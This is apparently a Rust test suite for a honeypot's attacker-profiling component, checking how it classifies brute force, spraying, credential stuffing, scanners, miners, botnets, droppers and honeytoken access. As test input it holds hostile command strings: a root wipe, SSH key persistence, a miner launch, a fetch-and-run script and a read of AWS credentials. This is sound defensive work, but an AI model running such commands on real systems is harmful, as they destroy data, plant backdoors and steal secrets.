//! Tests of the profile book: each signal from hand-made sessions, windows, bounds, intents,
//! risk and action.
#![allow(clippy::unwrap_used, clippy::expect_used, clippy::indexing_slicing)]

use std::net::IpAddr;

use miragepot_event::{
    AuthMethod, Confidence, EndReason, Event, EventKind, ForwardKind, InputMode, InputStats,
    IpAssessment, Protocol, RiskBand, SessionContext, SessionId, SessionSummary, TechniqueHit,
    TokenAction, TokenKind, TokenTouched,
};
use time::{Duration, OffsetDateTime};

use super::{ProfileBook, ProfileConfig};

pub(super) fn t0() -> OffsetDateTime {
    OffsetDateTime::from_unix_timestamp(1_763_730_000).unwrap()
}

pub(super) fn ip(s: &str) -> IpAddr {
    s.parse().unwrap()
}

/// One session from `addr` starting at `start`: `session_start`, then each `(seconds after
/// start, kind)`, then `session_end` one second after the last.
pub(super) fn session_at(
    addr: &str,
    start: OffsetDateTime,
    steps: Vec<(f64, EventKind)>,
) -> Vec<Event> {
    let ctx = SessionContext {
        sensor: "s1".into(),
        session: SessionId::new_at(start),
        src_ip: ip(addr),
        src_port: 40_000,
    };
    let start_kind = EventKind::SessionStart {
        protocol: Protocol::Ssh,
        dst_ip: ip("192.0.2.1"),
        dst_port: 22,
    };
    let mut out = vec![ctx.event(start, start_kind)];
    let mut last = 0.0f64;
    for (secs, kind) in steps {
        last = last.max(secs);
        out.push(ctx.event(start + Duration::seconds_f64(secs), kind));
    }
    let end = EventKind::SessionEnd {
        reason: EndReason::ClientClosed,
        duration_ms: 0,
    };
    out.push(ctx.event(start + Duration::seconds_f64(last + 1.0), end));
    out
}

/// A session whose steps are one second apart.
pub(super) fn session(addr: &str, start: OffsetDateTime, kinds: Vec<EventKind>) -> Vec<Event> {
    let steps = kinds
        .into_iter()
        .enumerate()
        .map(|(i, k)| (i as f64 + 1.0, k))
        .collect();
    session_at(addr, start, steps)
}

pub(super) fn auth(user: &str, pass: &str, ok: bool) -> EventKind {
    EventKind::AuthAttempt {
        method: AuthMethod::Password,
        username: user.into(),
        password: Some(pass.into()),
        key_fingerprint: None,
        success: ok,
        rule: None,
    }
}

pub(super) fn cmd(line: &str, mode: InputMode) -> EventKind {
    EventKind::CommandInput {
        input: line.into(),
        mode,
        threat_score: 0,
        threat_rules: vec![],
    }
}

fn technique(id: &str, tactic_id: &str, evidence: &str) -> EventKind {
    EventKind::Technique(TechniqueHit {
        technique: id.into(),
        name: id.into(),
        tactic_id: tactic_id.into(),
        tactic: "x".into(),
        confidence: Confidence::High,
        rule: "r".into(),
        evidence: evidence.into(),
    })
}

fn summary(input: InputStats) -> EventKind {
    EventKind::SessionSummary(SessionSummary {
        duration_ms: 0,
        login_attempts: 1,
        login: None,
        commands: 1,
        max_threat: 0,
        total_threat: 0,
        delay_ms: 0,
        techniques: vec![],
        stages: vec![],
        stage: None,
        downloads: 0,
        iocs: 0,
        tokens_touched: 0,
        injections: 0,
        risk_score: 0,
        risk_band: RiskBand::Low,
        command_hash: None,
        input_hash: None,
        input,
    })
}

fn kex(hassh: &str) -> EventKind {
    EventKind::ClientKex {
        hassh: hassh.into(),
        hassh_algorithms: String::new(),
        kex_algorithms: vec![],
        host_key_algorithms: vec![],
        encryption_algorithms: vec![],
        mac_algorithms: vec![],
        compression_algorithms: vec![],
    }
}

pub(super) fn book_of(events: &[Event]) -> ProfileBook {
    let mut b = ProfileBook::new(ProfileConfig::default());
    for e in events {
        b.observe(e);
    }
    b
}

/// The assessment of `addr` one minute after the last event.
fn assess_after(events: &[Event], addr: &str) -> IpAssessment {
    let last = events.iter().map(|e| e.ts).max().unwrap();
    book_of(events)
        .assess(ip(addr), last + Duration::minutes(1))
        .unwrap()
}

fn has(a: &IpAssessment, signal: &str) -> bool {
    a.signals.iter().any(|s| s == signal)
}

/// `n` failed attempts as `root`, `gap` seconds apart, each with a new password.
pub(super) fn attempts_of(n: usize, gap: f64) -> Vec<(f64, EventKind)> {
    attempts(n, gap, |i| ("root".into(), format!("p{i}")))
}

/// `n` failed attempts, `gap` seconds apart, each pair from `pair(i)`.
fn attempts(n: usize, gap: f64, pair: impl Fn(usize) -> (String, String)) -> Vec<(f64, EventKind)> {
    (0..n)
        .map(|i| {
            let (u, p) = pair(i);
            (i as f64 * gap + 1.0, auth(&u, &p, false))
        })
        .collect()
}

const A: &str = "203.0.113.7";

#[test]
fn brute_force_per_minute_and_per_hour() {
    let pw = |i: usize| ("root".to_string(), format!("pw{i}"));
    let five = session_at(A, t0(), attempts(5, 5.0, pw));
    let four = session_at(A, t0(), attempts(4, 5.0, pw));
    // 20 spread over 57 minutes: under 5 a minute, 20 within the hour.
    let slow20 = session_at(A, t0(), attempts(20, 180.0, pw));
    let slow19 = session_at(A, t0(), attempts(19, 180.0, pw));
    let at = |ev: &[Event]| {
        let last = ev.iter().map(|e| e.ts).max().unwrap();
        book_of(ev).assess(ip(A), last).unwrap()
    };
    let a = at(&five);
    assert!(has(&a, "brute_force"));
    assert_eq!(a.action, "block", "brute force that never got in");
    assert_eq!(a.intent, "brute_forcer");
    assert!(!has(&at(&four), "brute_force"));
    assert!(has(&at(&slow20), "brute_force"));
    assert!(!has(&at(&slow19), "brute_force"));
    // An hour and a half later the windows no longer hold them.
    let later = t0() + Duration::minutes(90);
    assert!(!has(
        &book_of(&five).assess(ip(A), later).unwrap(),
        "brute_force"
    ));

    // The same brute force that ends with a login is deceived, not blocked.
    let mut steps = attempts(5, 5.0, pw);
    steps.push((30.0, auth("root", "admin123!", true)));
    let a = at(&session_at(A, t0(), steps));
    assert!(has(&a, "brute_force"));
    assert_eq!(a.action, "deceive");
}

#[test]
fn guessing_versus_spraying() {
    let guess = session_at(
        A,
        t0(),
        attempts(6, 1.0, |i| ("root".into(), format!("p{i}"))),
    );
    let spray = session_at(
        A,
        t0(),
        attempts(6, 1.0, |i| (format!("u{i}"), "Summer2024".into())),
    );
    let g = assess_after(&guess, A);
    let s = assess_after(&spray, A);
    assert!(has(&g, "password_guessing") && !has(&g, "password_spraying"));
    assert!(has(&s, "password_spraying") && !has(&s, "password_guessing"));
    // Four passwords are not "many".
    let few = session_at(
        A,
        t0(),
        attempts(4, 1.0, |i| ("root".into(), format!("p{i}"))),
    );
    assert!(!has(&assess_after(&few, A), "password_guessing"));
}

#[test]
fn credential_stuffing_needs_distinct_default_pairs_tried_once() {
    let defaults = ProfileConfig::default().default_credentials;
    let stuff = session_at(
        A,
        t0(),
        attempts(12, 1.0, |i| defaults[i * 3 % defaults.len()].clone()),
    );
    let a = assess_after(&stuff, A);
    assert!(has(&a, "credential_stuffing"), "{:?}", a.signals);
    // The same number of distinct pairs, none from the list.
    let random = session_at(
        A,
        t0(),
        attempts(12, 1.0, |i| (format!("u{}", i % 3), format!("x{i}"))),
    );
    assert!(!has(&assess_after(&random, A), "credential_stuffing"));
    // Default pairs tried over and over: not "each about once".
    let repeat = session_at(A, t0(), attempts(40, 1.0, |i| defaults[i % 10].clone()));
    assert!(!has(&assess_after(&repeat, A), "credential_stuffing"));
}

#[test]
fn default_account_and_credential_check_only() {
    let ev = session(A, t0(), vec![auth("pi", "raspberry", true)]);
    let a = assess_after(&ev, A);
    assert!(has(&a, "default_account"));
    assert!(has(&a, "credential_check_only"));
    assert_eq!(a.intent, "credential_validator");
    assert_eq!(a.action, "deceive", "it got in");
    assert_eq!(a.sophistication, 0);

    let other = session(
        A,
        t0(),
        vec![
            auth("pi", "hunter2-long", true),
            cmd("uname -a", InputMode::Exec),
        ],
    );
    let a = assess_after(&other, A);
    assert!(!has(&a, "default_account"));
    assert!(!has(&a, "credential_check_only"));
    assert_eq!(a.intent, "recon_only");
    assert_eq!(a.sophistication, 1);
}

#[test]
fn root_targeting_share_and_minimum() {
    let mix = |roots: usize, n: usize| {
        let ev = session_at(
            A,
            t0(),
            attempts(n, 1.0, |i| {
                let u = if i < roots { "root" } else { "admin" };
                (u.into(), format!("p{i}"))
            }),
        );
        has(&assess_after(&ev, A), "root_targeting")
    };
    assert!(mix(3, 5));
    assert!(!mix(2, 5));
    assert!(!mix(4, 4), "fewer than 5 attempts");
}

#[test]
fn proxy_abuse_is_direct_tcpip() {
    let fwd = |kind| EventKind::ForwardRequest {
        kind,
        host: Some("198.51.100.9".into()),
        port: Some(443),
        origin_host: None,
        origin_port: None,
    };
    let ev = session(
        A,
        t0(),
        vec![auth("root", "x", true), fwd(ForwardKind::DirectTcpip)],
    );
    let a = assess_after(&ev, A);
    assert!(has(&a, "proxy_abuse"));
    assert!(!has(&a, "credential_check_only"), "it used the login");
    assert_eq!(a.intent, "proxy_abuser");
    let ev = session(
        A,
        t0(),
        vec![auth("root", "x", true), fwd(ForwardKind::TcpipForward)],
    );
    assert!(!has(&assess_after(&ev, A), "proxy_abuse"));
}

#[test]
fn high_velocity_from_rate_or_sessions() {
    let pw = |i: usize| ("root".to_string(), format!("p{i}"));
    let fast = session_at(A, t0(), attempts(12, 1.0, pw));
    let slow = session_at(A, t0(), attempts(12, 10.0, pw));
    assert!(has(&assess_after(&fast, A), "high_velocity"));
    assert!(!has(&assess_after(&slow, A), "high_velocity"));
    let mut many: Vec<Event> = Vec::new();
    for i in 0..10 {
        many.extend(session(A, t0() + Duration::seconds(i * 3), vec![]));
    }
    let last = many.iter().map(|e| e.ts).max().unwrap();
    let a = book_of(&many).assess(ip(A), last).unwrap();
    assert!(has(&a, "high_velocity"));
    assert_eq!(a.sessions, [10, 10, 10]);
}

#[test]
fn scanner_connects_without_auth() {
    let ev = session(
        A,
        t0(),
        vec![EventKind::ClientVersion {
            version: "SSH-2.0-Go".into(),
        }],
    );
    let a = assess_after(&ev, A);
    assert!(has(&a, "scanner"));
    assert_eq!(a.intent, "scanner");
    assert_eq!(a.hassh_family.as_deref(), Some("go"));
    assert_eq!(a.attempts, [0, 0, 0]);
    // A `none` probe is no login attempt either.
    let none = EventKind::AuthAttempt {
        method: AuthMethod::None,
        username: "root".into(),
        password: None,
        key_fingerprint: None,
        success: false,
        rule: None,
    };
    assert!(has(
        &assess_after(&session(A, t0(), vec![none]), A),
        "scanner"
    ));
    let tried = session(A, t0(), vec![auth("root", "x", false)]);
    assert!(!has(&assess_after(&tried, A), "scanner"));
}

#[test]
fn detections_set_signals_and_intents() {
    let login = || auth("root", "x", true);
    let run = |kinds: Vec<EventKind>| {
        let mut k = vec![login(), cmd("uname -a", InputMode::Exec)];
        k.extend(kinds);
        assess_after(&session(A, t0(), k), A)
    };
    let a = run(vec![technique(
        "T1098.004",
        "TA0003",
        "echo ssh-rsa >> .ssh/authorized_keys",
    )]);
    assert!(has(&a, "persistence"));
    assert_eq!(a.intent, "persistence_only");

    let a = run(vec![technique("T1496", "TA0040", "./xmrig")]);
    assert!(has(&a, "miner"));
    assert_eq!(a.intent, "miner_deployer");
    let a = run(vec![cmd(
        "nohup ./x --donate-level 1 -o stratum+tcp://p:3333",
        InputMode::Exec,
    )]);
    assert_eq!(a.intent, "miner_deployer", "from keywords alone");

    let a = run(vec![cmd("/bin/busybox ECCHI", InputMode::Exec)]);
    assert!(has(&a, "botnet"));
    assert_eq!(a.intent, "botnet_enrolment");

    let a = run(vec![technique(
        "T1485",
        "TA0040",
        "rm -rf --no-preserve-root /",
    )]);
    assert_eq!(a.intent, "destructive");

    let download = EventKind::Download {
        tool: "wget".into(),
        url: "http://198.51.100.3/x.sh".into(),
        host: "198.51.100.3".into(),
        port: 80,
        destination: Some("/tmp/x.sh".into()),
        size: Some(10),
        outcome: "saved".into(),
    };
    let ran = EventKind::FileExecuted {
        path: "/tmp/x.sh".into(),
        size: 10,
        sha256: "00".into(),
    };
    let a = run(vec![download, ran]);
    assert!(has(&a, "downloads"));
    assert_eq!(a.intent, "dropper");
    assert_eq!(a.sophistication, 2);

    let touched = EventKind::HoneytokenTouched(TokenTouched {
        token: TokenKind::AwsKey,
        path: "/root/.aws/credentials".into(),
        action: TokenAction::Read,
        evidence: "cat .aws/credentials".into(),
    });
    let a = run(vec![touched]);
    assert!(has(&a, "honeytoken"));
    assert!(a.risk_score >= 75);
    assert_eq!(a.risk_band, RiskBand::Critical);
    assert_eq!(a.action, "block");

    let a = run(vec![technique("T1222.002", "TA0005", "chattr -ia .ssh")]);
    assert!(has(&a, "evasion"));
    assert_eq!(a.sophistication, 3);
    let a = run(vec![technique("T1222.002", "TA0005", "chmod +x x")]);
    assert!(!has(&a, "evasion"), "chmod alone is no evasion");
}

#[test]
fn human_versus_bot() {
    let typed = InputStats {
        writes: 60,
        bytes: 64,
        backspaces: 3,
        median_gap_ms: Some(220),
    };
    let human = session(
        A,
        t0(),
        vec![
            kex("472b5de333ad665af5cbf10ff892c4df"),
            auth("root", "x", true),
            EventKind::ShellStart { pty: true },
            cmd("ls -la", InputMode::Interactive),
            summary(typed),
        ],
    );
    let a = assess_after(&human, A);
    assert!(!a.bot);
    assert_eq!(a.hassh_family.as_deref(), Some("openssh"));
    assert_eq!(a.intent, "interactive");
    assert_eq!(a.sophistication, 4);

    let pasted = InputStats {
        writes: 2,
        bytes: 90,
        backspaces: 0,
        median_gap_ms: Some(3),
    };
    let bot = session(
        A,
        t0(),
        vec![
            kex("4e066189c3bbeec38c99b1855113733a"),
            auth("root", "x", true),
            EventKind::ShellStart { pty: true },
            cmd("uname -a; nproc", InputMode::Interactive),
            summary(pasted),
        ],
    );
    let a = assess_after(&bot, A);
    assert!(a.bot);
    assert_eq!(a.hassh_family.as_deref(), Some("go"));
    assert_eq!(a.intent, "recon_only");
    // No rhythm and no client at all: a bot by default.
    let bare = session(
        A,
        t0(),
        vec![auth("root", "x", true), cmd("id", InputMode::Exec)],
    );
    assert!(assess_after(&bare, A).bot);
}

#[test]
fn attempt_two_hours_ago_counts_in_the_day_not_the_hour() {
    let mut ev = session(A, t0(), vec![auth("root", "a", false)]);
    ev.extend(session(
        A,
        t0() + Duration::hours(2),
        vec![auth("root", "b", false)],
    ));
    let a = book_of(&ev)
        .assess(ip(A), t0() + Duration::hours(2) + Duration::seconds(5))
        .unwrap();
    assert_eq!(a.attempts, [1, 1, 2]);
    assert_eq!(a.sessions, [1, 1, 2]);
    let a = book_of(&ev)
        .assess(ip(A), t0() + Duration::hours(30))
        .unwrap();
    assert_eq!(a.attempts, [0, 0, 0]);
}

#[test]
fn eviction_keeps_the_most_recently_seen() {
    let cfg = ProfileConfig {
        max_ips: 3,
        ..ProfileConfig::default()
    };
    let mut b = ProfileBook::new(cfg);
    let at = |addr: &str, s: i64| session(addr, t0() + Duration::seconds(s), vec![]);
    for (addr, s) in [
        ("10.0.0.1", 0),
        ("10.0.0.2", 10),
        ("10.0.0.3", 20),
        ("10.0.0.1", 30),
    ] {
        for e in at(addr, s) {
            b.observe(&e);
        }
    }
    assert_eq!(b.evicted(), 0);
    for e in at("10.0.0.4", 40) {
        b.observe(&e);
    }
    assert_eq!(
        b.ips(),
        vec![ip("10.0.0.1"), ip("10.0.0.3"), ip("10.0.0.4")]
    );
    assert_eq!(b.evicted(), 1);
    for i in 0..100 {
        for e in at(&format!("10.0.1.{i}"), 100 + i) {
            b.observe(&e);
        }
    }
    assert_eq!(b.ips().len(), 3);
    assert_eq!(b.evicted(), 101);
    assert!(b.assess(ip("10.0.0.1"), t0()).is_none());
}

#[test]
fn per_address_state_stays_bounded() {
    let pairs = session_at(
        A,
        t0(),
        attempts(5_000, 0.01, |i| (format!("u{i}"), format!("p{i}"))),
    );
    let mut opens: Vec<Event> = Vec::new();
    let ctx = |n: u64| SessionContext {
        sensor: format!("sensor{}", n % 20),
        session: SessionId::new_at(t0() + Duration::milliseconds(n as i64)),
        src_ip: ip(A),
        src_port: 1,
    };
    for n in 0..70_000u64 {
        let start = EventKind::SessionStart {
            protocol: Protocol::Ssh,
            dst_ip: ip("192.0.2.1"),
            dst_port: 22,
        };
        opens.push(ctx(n).event(t0() + Duration::milliseconds(n as i64), start));
    }
    let mut b = book_of(&pairs);
    for e in &opens {
        b.observe(e);
    }
    assert!(b.open_sessions() <= super::MAX_OPEN_SESSIONS);
    let s = b.state(ip(A)).unwrap();
    assert!(s.users.distinct() <= super::state::USER_CAP as u32 + 1);
    assert!(s.pairs.distinct() <= super::state::PAIR_CAP as u32 + 1);
    assert_eq!(s.attempts, 5_000, "totals still count everything");
    assert_eq!(s.sensors.len(), 8);
    let a = b.assess(ip(A), t0() + Duration::minutes(2)).unwrap();
    assert_eq!(a.attempts[2], 5_000);
    assert!(has(&a, "multi_sensor"));
}

#[test]
fn risk_decays_with_silence_and_ip_profiles_are_ignored() {
    let ev = session(
        A,
        t0(),
        vec![
            auth("root", "x", true),
            cmd("wget http://x/y", InputMode::Exec),
        ],
    );
    let b = book_of(&ev);
    let fresh = b.assess(ip(A), t0() + Duration::minutes(1)).unwrap();
    let later = b.assess(ip(A), t0() + Duration::hours(49)).unwrap();
    assert!(fresh.risk_score > 0);
    assert_eq!(later.risk_score, fresh.risk_score / 4);
    let mut b2 = b.clone();
    let own = SessionContext {
        sensor: "s1".into(),
        session: SessionId::new_at(t0()),
        src_ip: ip("198.51.100.1"),
        src_port: 1,
    }
    .event(t0(), EventKind::IpProfile(fresh.clone()));
    b2.observe(&own);
    assert!(b2.assess(ip("198.51.100.1"), t0()).is_none());
    assert!(b.assess(ip("198.51.100.2"), t0()).is_none());
}

#[test]
fn same_events_same_assessment() {
    let mut ev = session(
        A,
        t0(),
        vec![auth("root", "root", true), cmd("uname -a", InputMode::Exec)],
    );
    ev.extend(session_at(
        "198.51.100.4",
        t0(),
        attempts(30, 0.5, |i| ("admin".into(), format!("{i}"))),
    ));
    let now = t0() + Duration::minutes(5);
    let (a, b) = (book_of(&ev), book_of(&ev));
    for addr in a.ips() {
        assert_eq!(a.assess(addr, now), b.assess(addr, now));
    }
    assert_eq!(super::report_json(&a, now), super::report_json(&b, now));
    assert_eq!(
        super::report_markdown(&a, now),
        super::report_markdown(&b, now)
    );
}

#[test]
fn the_family_is_the_latest_clients() {
    let banner = |v: &str| EventKind::ClientVersion { version: v.into() };
    let mut ev = session(A, t0(), vec![banner("SSH-2.0-PuTTY_Release_0.78")]);
    let go = "4e066189c3bbeec38c99b1855113733a";
    ev.extend(session(
        A,
        t0() + Duration::minutes(1),
        vec![banner("SSH-2.0-OpenSSH_9.9"), kex(go)],
    ));
    let unknown = session(
        A,
        t0() + Duration::minutes(2),
        vec![banner("SSH-2.0-Unknown")],
    );
    let b = book_of(&ev);
    assert_eq!(
        b.assess(ip(A), t0()).unwrap().hassh_family.as_deref(),
        Some("go")
    );
    let mut all = ev.clone();
    all.extend(unknown);
    assert_eq!(
        book_of(&all).assess(ip(A), t0()).unwrap().hassh_family,
        None
    );
}
